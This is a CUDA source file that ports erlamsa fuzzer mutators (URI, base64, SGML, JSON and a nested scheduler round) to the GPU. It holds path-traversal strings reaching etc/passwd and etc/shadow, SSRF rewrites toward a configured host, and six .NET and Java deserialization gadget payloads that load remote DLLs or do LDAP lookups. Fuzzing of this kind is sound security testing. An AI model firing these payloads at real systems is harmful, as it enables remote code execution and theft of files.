// erlamsa_b200 -- mutators that walk the string lexer's chunks and/or run a NESTED scheduler round:
//   uri  (reference src/erlamsa_mutations.erl:734-784)  SSRF / path-traversal rewrite of every text chunk holding "://"
//   b64  (reference :657-690)                            base64-decodable text chunks get one full scheduler round
//   sgm  (reference src/erlamsa_sgml.erl)                eb_mut_sgml.cuh (all twelve mutations; inner text only at top level)
//   js   (reference src/erlamsa_json.erl:722-731)        eb_mut_json.cuh (atom-stream formulation: scalars, arrays and objects on the
//                                                        device; only a key followed by another value in key position flags the case)
// A flagged case (CASE_UNSUPPORTED) is reported to the caller and its output is the unchanged input: nothing is
// computed on the host on its behalf.
//
// The nested round (`inner_round`) is mux_fuzzers/1 (:1258-1280) on the one-block list [Bin] with a scheduler table
// of its own. It goes through mut_apply_inner, the same dispatch without the mutators that nest again, so the
// call graph stays acyclic (no device recursion, static stack size).
#pragma once

namespace eb {

__device__ const int8_t c_default_pri[M_COUNT] = {10, 3, 1, 2, 1, 1, 1, 1, 3, 2, 2, 2, 1, 1, 1, 1, 1, 1, 1, 1, 1, 1, 1, 1,
                                                  1, 1, 1, 1, 1, 1, 1, 1, 1, 2, 1, 2, 2, 7, 1, 1, 0};

// nesting levels: 0 = the case's own scheduler, 1 / 2 = inside one / two nested rounds. A mutator at level MAX_NEST
// cannot open another round and flags the case instead.
constexpr int MAX_NEST = 2;
template <int LVL> EB_DEV void mut_apply_level(CaseCtx& c, MutRow& row, const uint8_t* p, uint32_t n, MutResult& r);   // eb_mutators.cuh

// ------------------------------------------------------------------ small helpers
// cooperative output builder over a preallocated buffer (literals by lane 0, ranges by the warp)
struct Bld { uint8_t* p; uint32_t n; uint32_t cap; uint32_t ovf; };   // ovf: the running length left 31 bits (sizing passes)
EB_DEV void bld_put(Bld& b, uint32_t ch) { if (b.n < b.cap && lane_id() == 0) b.p[b.n] = (uint8_t)ch; b.n++; }
EB_DEV void bld_puts(Bld& b, const char* s) { while (*s) { bld_put(b, (uint8_t)*s); s++; } }
EB_DEV void bld_copy(Bld& b, const uint8_t* src, uint32_t len) {
    if (b.n < b.cap) for (uint32_t i = lane_id(); i < len; i += 32) if (b.n + i < b.cap) b.p[b.n + i] = src[i];
    if ((uint64_t)b.n + len > 0x7fffffffull) { b.ovf = 1; return; }
    b.n += len;
}
EB_DEV void bld_int(Bld& b, int v) {
    char tmp[12]; int k = 0; if (v < 0) { bld_put(b, '-'); v = -v; }
    do { tmp[k++] = (char)('0' + v % 10); v /= 10; } while (v);
    while (k) bld_put(b, (uint8_t)tmp[--k]);
}
EB_DEV void bld_hostport(Bld& b, const BatchParams* bp) {
    for (int q = 0; q < 64 && bp->ssrf_host[q]; q++) bld_put(b, (uint8_t)bp->ssrf_host[q]);
    bld_put(b, ':'); bld_int(b, bp->ssrf_port);
}
// first occurrence of the 3-byte pattern "://" in [p, p+n), or n
EB_DEV uint32_t find_scheme_sep(const uint8_t* p, uint32_t n) {
    for (uint32_t base = 0; base + 3 <= n; base += 32) {
        uint32_t i = base + lane_id();
        bool hit = i + 3 <= n && p[i] == ':' && p[i + 1] == '/' && p[i + 2] == '/';
        uint32_t m = __ballot_sync(0xffffffffu, hit);
        if (m) return base + (uint32_t)__ffs(m) - 1;
    }
    return n;
}
EB_DEV uint32_t find_byte(const uint8_t* p, uint32_t from, uint32_t n, uint32_t ch) {
    for (uint32_t base = from; base < n; base += 32) {
        uint32_t i = base + lane_id();
        uint32_t m = __ballot_sync(0xffffffffu, i < n && p[i] == ch);
        if (m) return base + (uint32_t)__ffs(m) - 1;
    }
    return n;
}

// replaced chunks of one block: [cs, ce) of the input becomes lit[0, len)
struct Piece { uint32_t cs, ce; const uint8_t* lit; uint32_t len; };
constexpr int MAX_PIECES = 256;
EB_DEV void emit_pieces(CaseCtx& c, const uint8_t* p, uint32_t n, const Piece* pc, int np) {
    WarpState* ws = c.ws;
    t_reset(ws);
    if (2 * np + 1 <= MAX_VSEG - 1) {
        uint32_t cur = 0;
        for (int i = 0; i < np; i++) { t_push(ws, seg_copy(p + cur, pc[i].cs - cur)); t_push(ws, seg_copy(pc[i].lit, pc[i].len)); cur = pc[i].ce; }
        t_push(ws, seg_copy(p + cur, n - cur));
        return;
    }
    uint64_t total = n;
    for (int i = 0; i < np; i++) total = total - (pc[i].ce - pc[i].cs) + pc[i].len;
    if (total > c.bp->max_case_out || total > 0x7fffffffull) { ws->status = CASE_OVERFLOW; ws->reason = 5; return; }
    uint8_t* buf = scratch_alloc(c, total);
    if (!buf) return;
    uint32_t cur = 0; uint8_t* d = buf;
    for (int i = 0; i < np; i++) {
        warp_copy(d, p + cur, pc[i].cs - cur); d += pc[i].cs - cur;
        warp_copy(d, pc[i].lit, pc[i].len); d += pc[i].len; cur = pc[i].ce;
    }
    warp_copy(d, p + cur, n - cur);
    __syncwarp();
    t_push(ws, seg_copy(buf, (uint32_t)total));
}

// ------------------------------------------------------------------ nested scheduler round
struct InnerRes { int kind; uint32_t len; };   // kind 0: unchanged input, 1: ws->tseg (first len bytes), 2: ws->rrun (first len bytes)
struct InnerSaved { StSlot st[2][10]; int st_n[2]; const uint8_t* fo_p; uint32_t fo_n; int fo_has; int has_next; const uint8_t* next_p; uint32_t next_n; };

// table for inner_mutations/1 + mutators_mutator/1 (:1341-1356, :1387-1395): rows in table order, scores drawn
// walking it backwards. b64_style: the whole default table, scores drawn forwards and the list left REVERSED (:661-668).
EB_DEV int inner_table(CaseCtx& c, const uint8_t* ids, int n_ids, bool b64_style, MutRow* rows) {
    Rng& g = c.rng;
    if (b64_style) {
        for (int i = 0; i < M_COUNT; i++) {
            uint64_t s = g.rand(10);
            MutRow r; r.score = (double)(s < 2 ? 2 : s); r.pri = c_default_pri[i]; r.name = (uint8_t)i; r.fn = (uint8_t)i; r.pad = 0;
            rows[M_COUNT - 1 - i] = r;
        }
        return M_COUNT;
    }
    for (int i = n_ids - 1; i >= 0; i--) {
        uint64_t s = g.rand(10);
        MutRow r; r.score = (double)(s < 2 ? 2 : s); r.pri = c_default_pri[ids[i]]; r.name = ids[i]; r.fn = ids[i]; r.pad = 0;
        rows[i] = r;
    }
    return n_ids;
}

// LVL = level of the mutator that opens the round; the round's own mutators run at LVL + 1
template <int LVL>
EB_DEV InnerRes inner_round(CaseCtx& c, const MutRow* rows, int nr, const uint8_t* p, uint32_t n, bool head_only) {
    WarpState* ws = c.ws; Rng& g = c.rng;
    InnerRes out; out.kind = 0; out.len = n;
    if (n == 0) return out;                                               // mux_fuzzers([<<>>]) :1260
    InnerSaved* sv = (InnerSaved*)temp_alloc(c, sizeof(InnerSaved));
    uint32_t* keys = (uint32_t*)temp_alloc(c, sizeof(uint32_t) * M_COUNT);
    uint8_t* order = temp_alloc(c, M_COUNT);
    if (!sv || !keys || !order) return out;
    // the nested table's closures (lis/lrs state, fo's remembered block) start fresh and are thrown away
    if (lane_id() == 0) {
        for (int w = 0; w < 2; w++) { for (int i = 0; i < 10; i++) sv->st[w][i] = ws->st[w][i]; sv->st_n[w] = ws->st_n[w]; }
        sv->fo_p = ws->fo_p; sv->fo_n = ws->fo_n; sv->fo_has = ws->fo_has;
        sv->has_next = c.has_next; sv->next_p = c.next_p; sv->next_n = c.next_n;
    }
    __syncwarp();
    ws->st_n[0] = ws->st_n[1] = 0; ws->fo_has = 0;
    c.has_next = 0; c.next_p = nullptr; c.next_n = 0;
    const uint64_t floor0 = c.temp_floor; c.temp_floor = c.temp_used;
    // weighted_permutations/1 :1244-1250
    for (int i = 0; i < nr; i++) { uint32_t k = (uint32_t)g.rand((uint64_t)trunc(rows[i].score * (double)rows[i].pri)); if (lane_id() == 0) keys[i] = k; }
    __syncwarp();
    if (lane_id() == 0) {
        for (int i = 0; i < nr; i++) {
            uint32_t k = keys[i]; int j = i - 1;
            while (j >= 0 && keys[order[j]] < k) { order[j + 1] = order[j]; j--; }
            order[j + 1] = (uint8_t)i;
        }
    }
    __syncwarp();
    for (int t = 0; t < nr; t++) {
        if (n > ABSMAX_BINARY_BLOCK) break;                              // {skipped_big, _} :1269-1270: the list comes back unchanged
        MutRow row = rows[order[t]];
        temp_reset(c);
        MutResult r; r.kind = RES_SAME; r.delta = 0; r.rechunk = 0; r.consumed_next = 0;
        mut_apply_level<LVL + 1>(c, row, p, n, r);
        if (r.kind == RES_UNSUPPORTED) ws->status = CASE_UNSUPPORTED;
        if (ws->status != CASE_OK) break;
        bool changed = false;
        if (r.kind == RES_SEGS) {
            uint32_t first = (r.rechunk && ws->tlen >= AVG_BLOCK_SIZE) ? AVG_BLOCK_SIZE : ws->tlen;
            changed = !(first == n && segs_equal_prefix(ws->tseg, ws->ntseg, p, n));
            if (changed) {
                if (ws->tlen > c.bp->max_case_out) { ws->status = CASE_OVERFLOW; ws->reason = 5; break; }
                out.kind = 1; out.len = head_only ? first : ws->tlen;
            }
        } else if (r.kind == RES_RUNS) {
            Seg s0 = seg_copy(ws->rrun[0].p, ws->rrun[0].len);
            changed = !(ws->rrun[0].len == n && segs_equal_prefix(&s0, 1, p, n));
            if (changed) {
                uint64_t tot = 0; for (int j = 0; j < ws->rrun_n; j++) tot += (uint64_t)ws->rrun[j].len * ws->rrun[j].cnt;
                if (tot > c.bp->max_case_out) { ws->status = CASE_OVERFLOW; ws->reason = 5; break; }
                out.kind = 2; out.len = head_only ? ws->rrun[0].len : (uint32_t)tot;
            }
        }
        if (changed) break;
    }
    c.temp_floor = floor0;
    __syncwarp();
    for (int w = 0; w < 2; w++) { for (int i = 0; i < 10; i++) ws->st[w][i] = sv->st[w][i]; ws->st_n[w] = sv->st_n[w]; }
    ws->fo_p = sv->fo_p; ws->fo_n = sv->fo_n; ws->fo_has = sv->fo_has;
    c.has_next = sv->has_next; c.next_p = sv->next_p; c.next_n = sv->next_n;
    __syncwarp();
    return out;
}
// copy the round's result (or the unchanged input) to dst
EB_DEV void inner_result_write(CaseCtx& c, const InnerRes& res, const uint8_t* p, uint8_t* dst) {
    WarpState* ws = c.ws;
    if (res.kind == 0) { warp_copy(dst, p, res.len); __syncwarp(); return; }
    if (res.kind == 1) {
        uint32_t left = res.len;
        for (int k = 0; k < ws->ntseg && left; k++) {
            Seg s = ws->tseg[k]; if (s.len > left) s.len = left;
            segs_write(&s, 1, dst); dst += s.len; left -= s.len;
        }
        return;
    }
    uint32_t left = res.len;
    for (int j = 0; j < ws->rrun_n && left; j++) {
        uint64_t bytes = (uint64_t)ws->rrun[j].len * ws->rrun[j].cnt; uint32_t take = bytes > left ? left : (uint32_t)bytes;
        warp_copy(dst, ws->rrun[j].p, take); dst += take; left -= take;
    }
    __syncwarp();
}

// ------------------------------------------------------------------ uri :734-784
EB_DEV void mut_uri(CaseCtx& c, MutRow& row, const uint8_t* p, uint32_t n, MutResult& r) {
    WarpState* ws = c.ws; Rng& g = c.rng;
    r.rechunk = 0; r.consumed_next = 0; r.kind = RES_SAME; r.delta = -1;
    row.fn = M_B64;                                                      // the successor it returns is base64_mutator/2 (:784)
    uint32_t L; bool stringy = false;
    ChunkEnt* tab = lex_table(c, p, n, L, stringy);
    if (!stringy) return;
    if (!tab) { r.delta = 0; return; }
    Piece* pc = (Piece*)temp_alloc(c, sizeof(Piece) * MAX_PIECES);
    if (!pc) { r.delta = 0; return; }
    int np = 0; double d = -1;
    for (uint32_t i = 0; i < L; i++) {
        if (tab[i].type != CH_TEXT) continue;
        uint32_t cs = tab[i].start, ce = tab[i + 1].start, len = ce - cs;
        if (len <= 5) continue;
        uint32_t sp = find_scheme_sep(p + cs, len);
        if (sp == len) continue;                                         // try_uri_mutate([], Acc): untouched, no draw
        const uint8_t* acc = p + cs; uint32_t accn = sp;                 // the scheme, forwards
        const uint8_t* T = p + cs + sp + 3; uint32_t tn = len - sp - 3;
        uint64_t k = g.erand(3);
        if (np >= MAX_PIECES) { r.kind = RES_UNSUPPORTED; return; }
        uint32_t cap = len + 256;
        uint8_t* buf = scratch_alloc(c, cap);
        if (!buf) { r.delta = 0; return; }
        Bld b; b.p = buf; b.n = 0; b.cap = cap; b.ovf = 0;
        bool file = accn >= 4 && acc[accn - 4] == 'f' && acc[accn - 3] == 'i' && acc[accn - 2] == 'l' && acc[accn - 1] == 'e';   // change_scheme/1 :734-736
        // string:tokens(T, "/"): the domain is the first non-empty piece, the query the rest joined by single slashes
        uint32_t d0 = 0; while (d0 < tn && T[d0] == '/') d0++;
        uint32_t d1 = d0; while (d1 < tn && T[d1] != '/') d1++;
        if (k == 1) {                                                    // :739-740
            if (file) { bld_copy(b, acc, accn - 4); bld_puts(b, "http"); } else bld_copy(b, acc, accn);
            bld_puts(b, "://"); bld_hostport(b, c.bp); bld_put(b, '/'); bld_copy(b, T, tn);
        } else {
            uint32_t at = 0;
            if (k == 2) at = (uint32_t)g.rand_elem_idx(2);               // :743 -- drawn before the tokens are matched
            if (d0 == tn) { ws->status = CASE_DIED; return; }            // [Domain | Query] = string:tokens(T, "/") badmatch
            uint32_t nt = 0, w = 0;
            if (k == 3) { nt = (uint32_t)g.erand(10); w = (uint32_t)g.erand(4); }
            if (k == 2) { if (file) { bld_copy(b, acc, accn - 4); bld_puts(b, "http"); } else bld_copy(b, acc, accn); }
            else bld_copy(b, acc, accn);
            bld_puts(b, "://"); bld_copy(b, T + d0, d1 - d0);
            if (k == 2) { if (at == 0) bld_put(b, ' '); bld_put(b, '@'); bld_hostport(b, c.bp); bld_put(b, '/'); }
            else { bld_put(b, '/'); for (uint32_t q = 0; q < nt; q++) bld_puts(b, "../"); }
            if (k == 2 || w == 1) {                                      // string:join(Query, "/")
                uint32_t q = d1; bool first = true;
                while (q < tn) {
                    while (q < tn && T[q] == '/') q++;
                    uint32_t e = q; while (e < tn && T[e] != '/') e++;
                    if (e > q) { if (!first) bld_put(b, '/'); bld_copy(b, T + q, e - q); first = false; }
                    q = e;
                }
            } else bld_puts(b, w == 2 ? "Windows/win.ini" : w == 3 ? "etc/shadow" : "etc/passwd");
        }
        __syncwarp();
        if (b.n > b.cap) { r.kind = RES_UNSUPPORTED; return; }
        pc[np].cs = cs; pc[np].ce = ce; pc[np].lit = buf; pc[np].len = b.n; np++;
        d += 1;
    }
    r.delta = d;
    if (np == 0) return;
    emit_pieces(c, p, n, pc, np);
    r.kind = RES_SEGS;
}

// ------------------------------------------------------------------ b64 :657-690
// base64:decode/1 as the oracle restates it (strict alphabet, white space skipped, whole quanta, padding only at the
// end). vals: one byte per input byte. Returns the decoded length or -1.
EB_DEV int b64_decode_dev(const uint8_t* s, uint32_t len, uint8_t* vals, uint8_t* dec) {
    uint32_t cnt = 0; bool invalid = false;
    for (uint32_t base = 0; base < len; base += 32) {
        uint32_t i = base + lane_id(); uint32_t v = 255;
        if (i < len) {
            uint32_t ch = s[i];
            if (ch >= 'A' && ch <= 'Z') v = ch - 'A'; else if (ch >= 'a' && ch <= 'z') v = ch - 'a' + 26;
            else if (ch >= '0' && ch <= '9') v = ch - '0' + 52; else if (ch == '+') v = 62; else if (ch == '/') v = 63;
            else if (ch == '=') v = 64; else if (ch == ' ' || ch == '\t' || ch == '\n' || ch == '\r') v = 255; else v = 254;
        }
        if (__any_sync(0xffffffffu, v == 254)) invalid = true;
        uint32_t m = __ballot_sync(0xffffffffu, v <= 64);
        if (v <= 64) vals[cnt + __popc(m & ((1u << lane_id()) - 1u))] = (uint8_t)v;
        cnt += __popc(m);
    }
    __syncwarp();
    if (invalid || (cnt & 3u)) return -1;
    uint32_t nq = cnt >> 2; uint32_t bad = 0;
    for (uint32_t q = lane_id(); q < nq; q += 32) {
        uint32_t a = vals[4 * q], b = vals[4 * q + 1], cc = vals[4 * q + 2], dd = vals[4 * q + 3]; bool last = q + 1 == nq;
        if (a == 64 || b == 64) bad = 1;
        if (cc == 64) { if (dd != 64 || !last) bad = 1; } else if (dd == 64 && !last) bad = 1;
    }
    if (__any_sync(0xffffffffu, bad)) return -1;
    if (nq == 0) return 0;
    uint32_t pad = vals[cnt - 2] == 64 ? 2 : vals[cnt - 1] == 64 ? 1 : 0;
    uint32_t outn = 3 * nq - pad;
    for (uint32_t q = lane_id(); q < nq; q += 32) {
        uint32_t a = vals[4 * q], b = vals[4 * q + 1], cc = vals[4 * q + 2] & 63, dd = vals[4 * q + 3] & 63;
        uint32_t x = (a << 18) | (b << 12) | (cc << 6) | dd;
        if (3 * q < outn) dec[3 * q] = (uint8_t)(x >> 16);
        if (3 * q + 1 < outn) dec[3 * q + 1] = (uint8_t)(x >> 8);
        if (3 * q + 2 < outn) dec[3 * q + 2] = (uint8_t)x;
    }
    __syncwarp();
    return (int)outn;
}
EB_DEV uint32_t b64_encode_dev(const uint8_t* in, uint32_t m, uint8_t* out) {   // base64:encode_to_string/1
    const char* tb = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    uint32_t ng = (m + 2) / 3;
    for (uint32_t q = lane_id(); q < ng; q += 32) {
        uint32_t rem = m - 3 * q;
        uint32_t x = (uint32_t)in[3 * q] << 16; if (rem > 1) x |= (uint32_t)in[3 * q + 1] << 8; if (rem > 2) x |= in[3 * q + 2];
        out[4 * q] = (uint8_t)tb[x >> 18]; out[4 * q + 1] = (uint8_t)tb[(x >> 12) & 63];
        out[4 * q + 2] = rem > 1 ? (uint8_t)tb[(x >> 6) & 63] : (uint8_t)'=';
        out[4 * q + 3] = rem > 2 ? (uint8_t)tb[x & 63] : (uint8_t)'=';
    }
    __syncwarp();
    return 4 * ng;
}

// At LVL == MAX_NEST the attempt cannot open another round: it is exact as long as no chunk decodes (the usual
// outcome on decoded bytes) and flags the case when one more level of nesting (a third) would be needed.
template <int LVL>
EB_DEV void mut_b64(CaseCtx& c, const uint8_t* p, uint32_t n, MutResult& r) {
    WarpState* ws = c.ws; Rng& g = c.rng;
    r.rechunk = 0; r.consumed_next = 0; r.kind = RES_SAME; r.delta = -1;
    // MutasList = mutas_list(mutations([])) :661 -- building the table costs its two draws whatever follows
    const int inner_kind = (int)g.rand_elem_idx(3);
    (void)g.rand_elem_idx(1);
    uint32_t L; bool stringy = false;
    ChunkEnt* tab = lex_table(c, p, n, L, stringy);
    if (!stringy) return;
    if (!tab) { r.delta = 0; return; }
    Piece* pc = (Piece*)temp_alloc(c, sizeof(Piece) * MAX_PIECES);
    MutRow* rows = (MutRow*)temp_alloc(c, sizeof(MutRow) * M_COUNT);
    if (!pc || !rows) { r.delta = 0; return; }
    const uint64_t floor0 = c.temp_floor, mark = c.temp_used;
    const int kind0 = c.snand_kind;
    int np = 0; double d = -1;
    for (uint32_t i = 0; i < L && ws->status == CASE_OK; i++) {
        if (tab[i].type != CH_TEXT) continue;
        uint32_t cs = tab[i].start, ce = tab[i + 1].start, len = ce - cs;
        if (len <= 6) continue;
        c.temp_floor = mark; c.temp_used = mark;
        uint8_t* vals = temp_alloc(c, len); uint8_t* dec = temp_alloc(c, (uint64_t)len);
        if (!vals || !dec) { r.delta = 0; break; }
        int dl = b64_decode_dev(p + cs, len, vals, dec);
        if (dl < 0) continue;                                            // error:badarg -> the chunk stays
        if (LVL >= MAX_NEST) { r.kind = RES_UNSUPPORTED; break; }
        int dd = g.rand_delta();
        (void)inner_table(c, nullptr, 0, true, rows);                    // mutators_mutator(MutasList, []): 41 score draws
        if (np >= MAX_PIECES) { r.kind = RES_UNSUPPORTED; break; }
        c.temp_floor = c.temp_used; c.snand_kind = inner_kind;
        InnerRes res; res.kind = 0; res.len = (uint32_t)dl;
        if constexpr (LVL < MAX_NEST) res = inner_round<LVL>(c, rows, M_COUNT, dec, (uint32_t)dl, false);
        c.snand_kind = kind0;
        if (ws->status != CASE_OK) break;
        uint8_t* nb = temp_alloc(c, res.len);                            // above whatever the winning attempt still references
        uint32_t enc_len = 4 * ((res.len + 2) / 3);
        uint8_t* lit = scratch_alloc(c, enc_len);
        if (!nb || !lit) { r.delta = 0; break; }
        inner_result_write(c, res, dec, nb);
        b64_encode_dev(nb, res.len, lit);
        pc[np].cs = cs; pc[np].ce = ce; pc[np].lit = lit; pc[np].len = enc_len; np++;
        d += dd;
    }
    c.temp_floor = floor0; c.snand_kind = kind0;
    if (ws->status != CASE_OK || r.kind == RES_UNSUPPORTED) return;
    r.delta = d;
    if (np == 0) return;
    emit_pieces(c, p, n, pc, np);
    r.kind = RES_SEGS;
}

}  // namespace eb
#include "eb_mut_sgml.cuh"
namespace eb {

// ------------------------------------------------------------------ js
// tokenize/1 (reference src/erlamsa_json.erl:82-204) with the context list as a stack of one-byte kinds.
struct JsScan { int status; int ntop; int kind; uint32_t a, b; uint32_t natoms; int irregular; };   // status 0 ok, 1 throw(incorrect_json), 2 device table full
// the document as a flat sequence of atoms in source order: what fold_ast/1 re-serialises, white space gone
enum { JA_NUM = 0, JA_STR, JA_TRUE, JA_FALSE, JA_NULL, JA_JUNK, JA_OARR, JA_CARR, JA_OOBJ, JA_COBJ, JA_COMMA, JA_COLON };
struct JAtom { uint32_t kind, a, b, match; };
enum { JV_NUMBER = 0, JV_STRING, JV_TRUE, JV_FALSE, JV_NULL, JV_JUNK, JV_CONTAINER };
enum { JC_ARRAY = 0, JC_ELEMENTS, JC_OBJECT, JC_MEMBERS, JC_PAIR, JC_PAIR_DELIM, JC_VALUE, JC_ARRAY_END, JC_OBJECT_END, JC_PAIR_START, JC_PAIR_END };
EB_DEV JsScan js_tokenize(const uint8_t* S, uint32_t n, uint8_t* stk, uint32_t cap, JAtom* atoms, uint32_t acap) {
    JsScan o; o.status = 0; o.ntop = 0; o.kind = 0; o.a = o.b = 0; o.natoms = 0; o.irregular = 0;
    uint32_t sp = 0, i = 0;
    auto ATOM = [&](uint32_t kind, uint32_t a, uint32_t b) {
        if (!atoms) return;
        if (o.natoms < acap) { JAtom t; t.kind = kind; t.a = a; t.b = b; t.match = 0; atoms[o.natoms] = t; } else o.status = 2;
        o.natoms++;
    };
    // The context stack's top eight entries live in a register window (byte 0 = top); an entry goes to memory only when a ninth
    // is pushed above it and comes back only when the window has been popped empty -- a token costs no memory round trip for
    // the stack (it was three or four dependent ones).
    uint64_t win = 0; uint32_t nwin = 0;
    auto PUSH = [&](uint32_t k) {
        if (nwin == 8) { if (sp - 8 < cap) stk[sp - 8] = (uint8_t)(win >> 56); nwin = 7; }   // every lane stores the same byte
        win = (win << 8) | (uint64_t)k; nwin++;
        if (sp >= cap) o.status = 2;
        sp++;
    };
    auto POP = [&](uint32_t cnt) { sp -= cnt; if (nwin > cnt) { win >>= 8 * cnt; nwin -= cnt; } else { win = 0; nwin = 0; } };
    auto TOP = [&](uint32_t back) -> uint32_t {
        if (nwin <= back) {                                   // refill from below the window (everything there is in memory)
            uint32_t m = sp < 8 ? sp : 8;
            for (uint32_t t = nwin; t < m; t++) win |= (uint64_t)stk[sp - 1 - t] << (8 * t);
            nwin = m;
        }
        return (uint32_t)(win >> (8 * back)) & 255u;
    };
    auto notsep = [](uint32_t ch) { return ch != ' ' && ch != '\n' && ch != '\r' && ch != '\t' && ch != ',' && ch != ']' && ch != '}' && ch != ':'; };
    // push/4 :160-176
    auto push_value = [&](int kind, uint32_t a, uint32_t b) -> bool {
        for (;;) {
            __syncwarp();
            if (sp == 0) { o.ntop++; o.kind = kind; o.a = a; o.b = b; return true; }
            uint32_t h = TOP(0);
            if (h == JC_ELEMENTS || h == JC_MEMBERS) return true;
            if (h == JC_PAIR_DELIM) { POP(1); PUSH(JC_PAIR_START); PUSH(JC_PAIR_DELIM); return true; }
            if (h == JC_PAIR_END && sp >= 2 && TOP(1) == JC_PAIR_START) { POP(2); kind = JV_CONTAINER; continue; }
            return false;
        }
    };
    PUSH(JC_VALUE);
    for (;;) {
        if (o.status) return o;
        __syncwarp();
        while (i < n && (S[i] == '\t' || S[i] == '\n' || S[i] == '\r' || S[i] == ' ')) i++;
        if (i >= n) return o;
        if (sp == 0) { o.status = 1; return o; }
        uint32_t topk = TOP(0);
        bool want_value = false;
        switch (topk) {
        case JC_ARRAY:
            POP(1); PUSH(JC_ARRAY_END);
            if (S[i] == ']') { ATOM(JA_CARR, i, i + 1); i++; POP(1); if (!push_value(JV_CONTAINER, 0, 0)) { o.status = 1; return o; } continue; }
            PUSH(JC_ELEMENTS); PUSH(JC_VALUE); continue;
        case JC_ELEMENTS:
            if (S[i] == ']' && sp >= 2 && TOP(1) == JC_ARRAY_END) { ATOM(JA_CARR, i, i + 1); i++; POP(2); if (!push_value(JV_CONTAINER, 0, 0)) { o.status = 1; return o; } continue; }
            if (S[i] == ',') { ATOM(JA_COMMA, i, i + 1); i++; PUSH(JC_VALUE); continue; }
            o.status = 1; return o;
        case JC_OBJECT:
            POP(1); PUSH(JC_OBJECT_END);
            if (S[i] == '}') { ATOM(JA_COBJ, i, i + 1); i++; POP(1); if (!push_value(JV_CONTAINER, 0, 0)) { o.status = 1; return o; } continue; }
            PUSH(JC_MEMBERS); PUSH(JC_PAIR); continue;
        case JC_MEMBERS:
            if (S[i] == '}' && sp >= 2 && TOP(1) == JC_OBJECT_END) { ATOM(JA_COBJ, i, i + 1); i++; POP(2); if (!push_value(JV_CONTAINER, 0, 0)) { o.status = 1; return o; } continue; }
            if (S[i] == ',') { ATOM(JA_COMMA, i, i + 1); i++; PUSH(JC_PAIR); continue; }
            o.status = 1; return o;
        case JC_PAIR:
            POP(1);
            if (S[i] == ':' && sp >= 1 && TOP(0) == JC_PAIR_DELIM) { o.irregular = 1; i++; POP(1); PUSH(JC_PAIR_END); PUSH(JC_VALUE); continue; }
            PUSH(JC_PAIR_DELIM); PUSH(JC_VALUE); continue;
        case JC_PAIR_DELIM:
            if (S[i] == ':') { ATOM(JA_COLON, i, i + 1); i++; POP(1); PUSH(JC_PAIR_END); PUSH(JC_VALUE); continue; }
            o.irregular = 1;                                             // a key followed by another value: pairs as keys, not laid out on the device
            PUSH(JC_PAIR_DELIM); PUSH(JC_VALUE); continue;
        case JC_VALUE: POP(1); want_value = true; break;
        default: o.status = 2; return o;                                 // case_clause in ws/3: cannot be reached from the states above
        }
        if (!want_value) continue;
        uint32_t ch = S[i];
        if (ch == '[') { ATOM(JA_OARR, i, i + 1); i++; PUSH(JC_ARRAY); continue; }
        if (ch == '{') { ATOM(JA_OOBJ, i, i + 1); i++; PUSH(JC_OBJECT); continue; }
        if (i + 4 <= n && S[i] == 't' && S[i + 1] == 'r' && S[i + 2] == 'u' && S[i + 3] == 'e') { ATOM(JA_TRUE, i, i + 4); if (!push_value(JV_TRUE, i, i + 4)) { o.status = 1; return o; } i += 4; continue; }
        if (i + 5 <= n && S[i] == 'f' && S[i + 1] == 'a' && S[i + 2] == 'l' && S[i + 3] == 's' && S[i + 4] == 'e') { ATOM(JA_FALSE, i, i + 5); if (!push_value(JV_FALSE, i, i + 5)) { o.status = 1; return o; } i += 5; continue; }
        if (i + 4 <= n && S[i] == 'n' && S[i + 1] == 'u' && S[i + 2] == 'l' && S[i + 3] == 'l') { ATOM(JA_NULL, i, i + 4); if (!push_value(JV_NULL, i, i + 4)) { o.status = 1; return o; } i += 4; continue; }
        if (ch == '"') {
            uint32_t q = find_byte(S, i + 1, n, '"');
            if (q >= n) { ATOM(JA_JUNK, i + 1, n); if (!push_value(JV_JUNK, i + 1, n)) { o.status = 1; return o; } i = n; continue; }
            ATOM(JA_STR, i + 1, q);
            if (!push_value(JV_STRING, i + 1, q)) { o.status = 1; return o; }
            i = q + 1; continue;
        }
        if (!notsep(ch)) { o.status = 1; return o; }
        uint32_t j = i; while (j < n && notsep(S[j])) j++;
        ATOM(JA_NUM, i, j);
        if (!push_value(JV_NUMBER, i, j)) { o.status = 1; return o; }
        i = j;
    }
}

// json_unserialize_bugs/0 :604-613 (~s takes the SSRF uri)
__device__ const char* const c_js_payload[6] = {
    "{\"__type\":\"System.Windows.Application, PresentationFramework,Version=4.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35\",\"Resources\":{\"__type\":\"System.Windows.ResourceDictionary,PresentationFramework, Version=4.0.0.0, Culture=neutral,PublicKeyToken=31bf3856ad364e35\",\"Source\":\"http~sJsonDotNet/Xamlpayload\"}}",
    "{\"$type\":\"System.Configuration.Install.AssemblyInstaller,System.Configuration.Install, Version=4.0.0.0, Culture=neutral,PublicKeyToken=b03f5f7f11d50a3a\",\"Path\":\"http~sJsonDotNet/RemoteLibrary.dll\"}",
    "{\"$type\":\"System.Windows.Forms.BindingSource, System.Windows.Forms,Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089\",\"DataMember\":\"HelpText\",\"dataSource\":{\"$type\":\"System.Configuration.Install.AssemblyInstalle r, System.Configuration.Install, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b03f5f7f11d50a3a\",\"Path\":\"http~sJsonDotNet/RemoteLibrary.dll\"}}",
    "{\"@class\":\"org.hibernate.jmx.StatisticsService\",\"sessionFactoryJNDIName\":\"ldap~suid=somename,ou=someou,dc=somedc\"}",
    "{\"@class\":\"com.sun.rowset.JdbcRowSetImpl\", \"dataSourceName\":\"ldap:~suid=somename,ou=someou,dc=somed c\", \"autoCommit\":true}",
    "{\"@class\":\" com.atomikos.icatch.jta.RemoteClientUserTransaction\", \"name_\":\"ldap~suid=somename,ou=someou,dc=somedc\", \"providerUrl_\":\"ldap~s\"}",
};

}  // namespace eb
#include "eb_mut_json.cuh"
namespace eb {

// json_mutate/2 :722-731; a document that is a single scalar token (N = 1, NT = 0) or nothing at all (N = 0) is handled
// here, one with arrays / objects in eb_mut_json.cuh
template <int LVL>
EB_DEV void mut_js(CaseCtx& c, const uint8_t* p, uint32_t n, MutResult& r) {
    WarpState* ws = c.ws; Rng& g = c.rng;
    r.rechunk = 0; r.consumed_next = 0; r.kind = RES_SAME; r.delta = -1;
    uint32_t cap = n < 65536u ? n + 16 : 65536u;
